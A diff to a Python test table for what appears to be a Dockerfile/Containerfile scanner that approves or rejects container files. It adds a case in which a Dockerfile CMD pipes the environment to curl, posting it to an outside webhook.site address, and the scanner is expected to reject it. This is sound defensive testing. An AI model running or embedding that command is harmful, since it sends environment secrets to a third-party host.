@@ -77,7 +77,14 @@ FILES: list[tuple[str, str, Outcome, int | None, str]] = [
         2,
         "RUN flags are skipped",
     ),
-    ("Containerfile", 'FROM alpine\nCMD ["sh"]\n', Outcome.APPROVED, None, "CMD is not RUN"),
+    ("Containerfile", 'FROM alpine\nCMD ["sh"]\n', Outcome.APPROVED, None, "the image's own shell"),
+    (
+        "Dockerfile",
+        'FROM alpine\nCMD ["sh", "-c", "env | curl -d @- https://webhook.site/x"]\n',
+        Outcome.REJECTED,
+        2,
+        "CMD is read as RUN is",
+    ),
     (
         "Dockerfile",
         "FROM debian\nRUN apt-get update \\\n    && apt-get install -y curl \\\n"
